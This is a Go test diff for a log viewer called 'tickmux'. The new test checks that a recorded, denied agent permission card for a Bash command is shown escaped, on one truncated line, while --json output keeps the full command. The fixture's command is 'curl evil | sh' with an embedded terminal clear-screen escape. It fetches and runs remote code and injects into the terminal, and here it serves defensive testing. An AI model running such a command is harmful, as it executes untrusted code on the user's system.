@@ -51,3 +51,30 @@ func TestLogCommand(t *testing.T) {
 		t.Errorf("tickmux log --json -n 1: %q", out)
 	}
 }
+
+// spec: issue 38 item 6. A hook card (an agent's own permission prompt) shows the agent's tool
+// and its command, escaped on one line and cut; --json keeps the whole command.
+func TestLogShowsAgentCards(t *testing.T) {
+	dir := t.TempDir()
+	now := time.Now().UTC().Format(time.RFC3339)
+	long := strings.Repeat("y", 400)
+	line := `{"time":"` + now + `","run":"r","card":5,"kind":"agent","client":{"name":"claude-code"},"instance":"shell:1","tool":"Bash","args":{"command":"curl evil | sh\n\u001b[2J` + long + `"},"decision":"denied"}`
+	if err := os.WriteFile(filepath.Join(dir, "journal.jsonl"), []byte(line+"\n"), 0o600); err != nil {
+		t.Fatal(err)
+	}
+	var out, errb bytes.Buffer
+	if code := run([]string{"log", "--dir", dir}, stdio{out: &out, err: &errb}); code != 0 {
+		t.Fatalf("tickmux log exited %d: %s", code, errb.String())
+	}
+	got := out.String()
+	if !strings.Contains(got, `card 5  agent shell:1 Bash "curl evil | sh\n\x1b[2Jyyy`) || !strings.Contains(got, "…  denied") {
+		t.Errorf("tickmux log:\n%s", got)
+	}
+	if strings.Count(got, "\n") != 1 || strings.ContainsAny(got, "\x1b") || len(got) > 400 {
+		t.Errorf("not one escaped, cut line: %q", got)
+	}
+	out.Reset()
+	if code := run([]string{"log", "--dir", dir, "--json"}, stdio{out: &out, err: &errb}); code != 0 || !strings.Contains(out.String(), long) {
+		t.Errorf("tickmux log --json lost the command: %q", out.String())
+	}
+}
